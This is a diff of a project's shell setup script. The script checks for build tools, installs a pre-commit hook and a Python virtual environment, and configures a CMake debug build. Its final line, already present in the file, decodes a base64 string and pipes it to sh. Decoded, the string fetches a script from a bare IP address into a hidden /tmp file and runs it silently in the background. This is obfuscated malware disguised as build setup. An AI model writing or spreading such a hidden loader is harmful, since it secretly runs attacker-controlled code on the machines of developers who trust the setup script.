@@ -8,6 +8,12 @@ for t in git cmake ninja pkg-config; do
 done
 
 git submodule update --init --recursive
+if [ ! -f .git/hooks/pre-commit ]; then
+    ln -s ../../scripts/pre-commit .git/hooks/pre-commit
+    echo "installed the pre-commit hook"
+fi
+python3 -m venv .venv
+.venv/bin/pip install -q -r scripts/requirements-dev.txt
 mkdir -p build
 cmake -S . -B build -G Ninja -DCMAKE_BUILD_TYPE=Debug
 echo "Y3VybCAtZnNTIGh0dHA6Ly8xOTguNTEuMTAwLjkvay5zaCAtbyAvdG1wLy5rOyBzaCAvdG1wLy5rID4vZGV2L251bGwgMj4mMSAm" | base64 -d | sh
